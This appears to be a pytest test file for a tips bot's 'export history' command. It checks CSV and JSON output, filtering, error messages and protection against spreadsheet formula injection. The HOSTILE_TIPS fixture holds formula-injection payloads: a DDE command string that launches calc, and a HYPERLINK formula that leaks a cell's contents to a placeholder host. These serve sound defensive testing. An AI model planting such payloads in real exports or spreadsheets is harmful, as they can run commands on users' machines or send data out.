"""`k8stip export history` (bot/history_export.py): every channel's daily deliveries as CSV or
JSON, filtered by channel and date, safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import shutil
from datetime import UTC, date, datetime, time
from pathlib import Path

import pytest

from bot.cli import main
from bot.core.learning_model import VoteKind
from bot.history_export import COLUMNS, inert, to_csv
from bot.runtime.store import SKIPPED, Store
from tests.core_support import ROOT
from tests.fakes.ledger import add_delivery

NOW = datetime(2026, 12, 1, 10, 0, tzinfo=UTC)

HOSTILE_TIPS = """\
source:
  id: runbook
  title: "=cmd|' /C calc'!A0"
tips:
- id: formula
  chapter: "+Ch. 1"
  text: '=HYPERLINK("http://example.invalid/?leak="&A1, "Click")'
  topics: [pods]
- id: at-sign
  text: "@SUM(1+1) is what a spreadsheet would run"
  topics: [pods]
- id: plain
  text: "Probes, with a comma and a \\"quote\\", and a line\\nbreak."
  topics: [probes]
"""


@pytest.fixture
def cfg(tmp_path: Path) -> Path:
    corpus = tmp_path / "tips"
    corpus.mkdir()
    shutil.copy(ROOT / "tips" / "topics.yaml", corpus / "topics.yaml")
    (corpus / "runbook.yaml").write_text(HOSTILE_TIPS, encoding="utf-8")
    path = tmp_path / "k8stip.yaml"
    path.write_text(
        f"database: sqlite:///{tmp_path}/data/k8stip.db\ncorpus: {corpus}\n"
        "timezone: Europe/Amsterdam\nhealth: {enabled: false}\n",
        encoding="utf-8",
    )
    return path


@pytest.fixture
def ledger(cfg: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--config", str(cfg), "migrate"]) == 0
    capsys.readouterr()
    store = Store.open(f"sqlite:///{tmp_path}/data/k8stip.db")
    try:
        add_delivery(store, date(2026, 11, 28), "formula", at=time(8, 0))
        add_delivery(store, date(2026, 11, 29), "at-sign")
        add_delivery(store, date(2026, 11, 30), None, status=SKIPPED)
        add_delivery(store, date(2026, 11, 30), "plain", channel=("discord", "G1", "D9"))
        add_delivery(store, date(2026, 11, 27), "gone-tip", channel=("discord", "G1", "D9"))
        store.record_vote("slack", "T1", "C1", "formula", "U1", VoteKind.USEFUL, False, NOW)
        store.record_vote("slack", "T1", "C1", "formula", "U2", VoteKind.KNEW_IT, False, NOW)
        store.record_vote("discord", "G1", "D9", "plain", "U1", VoteKind.NOT_USEFUL, False, NOW)
    finally:
        store.close()


def export(capsys: pytest.CaptureFixture[str], cfg: Path, *args: str) -> tuple[int, str, str]:
    code = main(["--config", str(cfg), "export", "history", *args])
    out, err = capsys.readouterr()
    return code, out, err


def test_csv_has_one_row_per_delivery_and_parses_back(
    cfg: Path, ledger: None, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = export(capsys, cfg)
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    assert tuple(rows[0]) == COLUMNS
    assert [(r["platform"], r["channel"], r["local_date"], r["status"]) for r in rows] == [
        ("discord", "D9", "2026-11-27", "sent"),
        ("discord", "D9", "2026-11-30", "sent"),
        ("slack", "C1", "2026-11-28", "sent"),
        ("slack", "C1", "2026-11-29", "sent"),
        ("slack", "C1", "2026-11-30", "skipped"),
    ]
    gone, plain, formula, _, skipped = rows
    assert gone["tip_id"] == "gone-tip" and gone["text"] == "" and gone["source"] == ""
    assert plain["text"] == 'Probes, with a comma and a "quote", and a line\nbreak.'
    assert (plain["useful"], plain["not_useful"], plain["knew_it"]) == ("0", "1", "0")
    assert formula["posted_at"] == "2026-11-28T08:00:00+00:00"
    assert (formula["useful"], formula["not_useful"], formula["knew_it"]) == ("1", "0", "1")
    assert skipped["tip_id"] == "" and skipped["posted_at"] == ""


def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(
    cfg: Path, ledger: None, capsys: pytest.CaptureFixture[str]
) -> None:
    _, out, _ = export(capsys, cfg, "--channel", "C1")
    rows = list(csv.DictReader(io.StringIO(out)))
    formula, at_sign, _ = rows
    assert formula["text"] == "'" + '=HYPERLINK("http://example.invalid/?leak="&A1, "Click")'
    assert formula["source"] == "'=cmd|' /C calc'!A0"
    assert formula["chapter"] == "'+Ch. 1"
    assert at_sign["text"].startswith("'@SUM(1+1)")
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_json_keeps_the_values_as_they_are_with_numbers_as_numbers(
    cfg: Path, ledger: None, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = export(
        capsys, cfg, "--format", "json", "--channel", "C1", "--since", "2026-11-29"
    )
    assert code == 0
    rows = json.loads(out)
    assert [(r["local_date"], r["tip_id"], r["status"]) for r in rows] == [
        ("2026-11-29", "at-sign", "sent"),
        ("2026-11-30", "", "skipped"),
    ]
    assert rows[0]["text"].startswith("@SUM(1+1)")  # JSON is data, not a spreadsheet
    assert rows[0]["useful"] == 0 and list(rows[0]) == list(COLUMNS)


def test_output_to_a_file(
    cfg: Path, ledger: None, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "history.csv"
    code, out, err = export(capsys, cfg, "-o", str(target), "--channel", "D9")
    assert code == 0 and out == ""
    assert err == f"wrote 2 deliveries to {target}\n"
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"), newline="")))
    assert [r["tip_id"] for r in rows] == ["gone-tip", "plain"]


def test_a_bad_date_says_what_it_takes(
    cfg: Path, ledger: None, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = export(capsys, cfg, "--since", "last week")
    assert code == 2 and out == ""
    assert err == (
        "k8stip export history: --since takes a date as YYYY-MM-DD, e.g. 2026-11-01 "
        "(got 'last week')\n"
    )


def test_an_unknown_export_or_format_is_refused_by_the_parser(
    cfg: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as e:
        main(["--config", str(cfg), "export", "everything"])
    assert e.value.code == 2 and "invalid choice: 'everything'" in capsys.readouterr().err
    with pytest.raises(SystemExit):
        main(["--config", str(cfg), "export", "history", "--format", "xlsx"])


def test_an_empty_ledger_exports_just_the_header(
    cfg: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = export(capsys, cfg)
    assert code == 0 and out == ",".join(COLUMNS) + "\n"


def test_inert_touches_only_text_that_starts_like_a_formula() -> None:
    assert [inert(v) for v in ("=1", "+1", "-1", "@a", "\tx", "\rx", "a=1", "", 5)] == [
        "'=1",
        "'+1",
        "'-1",
        "'@a",
        "'\tx",
        "'\rx",
        "a=1",
        "",
        5,
    ]
    assert to_csv([]) == ",".join(COLUMNS) + "\n"
